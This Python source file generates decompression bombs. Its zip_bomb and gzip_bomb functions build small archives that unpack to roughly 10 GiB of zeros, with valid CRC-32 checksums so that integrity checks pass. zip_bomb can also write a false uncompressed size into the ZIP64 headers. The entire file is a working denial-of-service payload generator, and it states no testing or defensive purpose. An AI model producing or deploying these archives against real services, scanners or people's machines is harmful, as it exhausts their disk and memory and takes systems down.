"""A size goes in, a small file that unpacks to so many zeros comes out, its checksum right."""

from __future__ import annotations

import struct
import zlib

TEN_MIB = 10 * 2**20
GIB_10 = 10 * 2**30


def _zeros(doublings: int) -> tuple[bytes, int]:
    """Return ten mebibytes of zeros, doubled so often, as a deflated stream, and their CRC-32.

    The stream of one block, ended by a full flush, stands for itself wherever it is repeated. The
    checksum of a repeated block is an affine function of the one before, which is applied to
    itself.
    """
    block = bytes(TEN_MIB)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    once = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    bits = [*(1 << bit for bit in range(32)), 0]
    then = [zlib.crc32(block, value) for value in bits]

    def applied(value: int) -> int:
        found = then[32]
        for bit in range(32):
            if value >> bit & 1:
                found ^= then[bit] ^ then[32]
        return found

    for _ in range(doublings):
        then = [applied(value) for value in then]
    return once * 2**doublings + b"\3\0", then[32]


def zip_bomb(name: str, doublings: int = 10, claimed: int | None = None) -> bytes:
    """Return a zip of one member, 10 GiB with ten doublings, or of what it claims to have."""
    stream, checksum = _zeros(doublings)
    size = TEN_MIB * 2**doublings if claimed is None else claimed
    extra = struct.pack("<HHQQ", 1, 16, size, len(stream))
    common = struct.pack(
        *("<HHHHHIIIHH", 45, 0, 8, 0, 33, checksum, 2**32 - 1, 2**32 - 1),
        *(len(name), len(extra)),
    )
    local = b"PK\3\4" + common + name.encode() + extra + stream
    central = b"PK\1\2" + struct.pack("<H", 45) + common
    central += struct.pack("<HHHII", 0, 0, 0, 0, 0) + name.encode() + extra
    end = struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + b"PK\5\6" + end


def gzip_bomb(doublings: int = 10) -> bytes:
    """Return a gzip file of zeros, 10 GiB with ten doublings."""
    stream, checksum = _zeros(doublings)
    size = TEN_MIB * 2**doublings % 2**32
    return b"\x1f\x8b\x08\0\0\0\0\0\2\xff" + stream + struct.pack("<II", checksum, size)
